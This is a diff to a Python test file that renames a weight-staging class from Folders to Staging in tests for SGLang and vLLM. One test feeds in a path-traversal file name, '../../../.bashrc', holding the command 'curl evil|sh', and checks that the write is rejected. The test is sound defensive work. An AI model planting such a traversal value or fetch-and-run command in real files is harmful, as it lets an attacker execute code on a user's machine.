@@ -8,7 +8,7 @@ import torch
 from safetensors import SafetensorError
 from safetensors.torch import save_file
 
-from actors.engines.external.staging import Folders, model_shapes, shapes_of, vocab_size
+from actors.engines.external.staging import Staging, model_shapes, shapes_of, vocab_size
 from bus.weights import Weights
 from schemas.config.model import ModelConfig
 from tests.conftest import ModelFolder
@@ -24,7 +24,7 @@ def test_no_room_for_a_version_is_told_with_the_key(tmp_path: Path, monkeypatch:
 
     monkeypatch.setattr("safetensors.torch.save_file", no_room)
     folders, weights = (
-        Folders(scratch_at(tmp_path / "run" / "scratch"), "SGLang"),
+        Staging(scratch_at(tmp_path / "run" / "scratch"), "SGLang"),
         Weights("full", {"a": torch.zeros(1)}),
     )
     problem = r"GB of weights can't be written for SGLang to .* No space left on device; set weights.directory"
@@ -35,7 +35,7 @@ def test_no_room_for_a_version_is_told_with_the_key(tmp_path: Path, monkeypatch:
 
 def test_no_file_is_written_outside_the_scratch_folder(tmp_path: Path) -> None:
     """Names of files that came with broadcast weights are looked at again where they are written."""
-    folders = Folders(scratch_at(tmp_path / "run" / "scratch"), "vLLM")
+    folders = Staging(scratch_at(tmp_path / "run" / "scratch"), "vLLM")
     weights = Weights("adapter", {"a": torch.zeros(1)}, {"../../../.bashrc": "curl evil|sh"})
     with pytest.raises(ValueError, match=r"allowed are: adapter_config\.json"):
         folders.adapter("1.1.1", weights)
